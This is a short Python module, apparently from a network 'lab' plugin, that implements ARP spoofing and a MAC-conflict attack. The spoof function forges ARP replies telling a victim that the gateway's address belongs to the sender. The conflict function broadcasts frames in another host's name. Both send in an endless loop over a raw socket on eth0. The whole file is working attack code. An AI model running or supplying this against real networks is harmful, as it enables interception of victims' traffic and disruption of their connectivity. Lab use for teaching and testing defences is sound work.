"""Lies about who has an address: told to one, or to all."""

from __future__ import annotations

import socket
from typing import TYPE_CHECKING

from plugin.lab import packets, wire

if TYPE_CHECKING:
    from collections.abc import Iterator

    from plugin.lab.plan import Plan

NIC = "eth0"


def spoof(what: Plan) -> Iterator[None]:
    """ARP spoofing: tells its victim, and it alone, that the gateway's address is its own."""
    me, victim = _bytes(what.mac), _bytes(what.target_mac)
    frame = wire.arp_reply(me, socket.inet_aton(what.about), victim, socket.inet_aton(what.target))
    return _sent(frame)


def conflict(what: Plan) -> Iterator[None]:
    """MAC conflict: speaks to all in the name of another's MAC, in frames of its own."""
    me, other, address = _bytes(what.mac), _bytes(what.target_mac), socket.inet_aton(what.target)
    frame = wire.arp_reply(other, address, packets.EVERYBODY, address)
    return _sent(packets.EVERYBODY + me + frame[12:])


def _sent(frame: bytes) -> Iterator[None]:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind((NIC, 0))
        while True:
            sock.send(frame)
            yield


def _bytes(mac: str) -> bytes:
    return bytes.fromhex(mac.replace(":", ""))
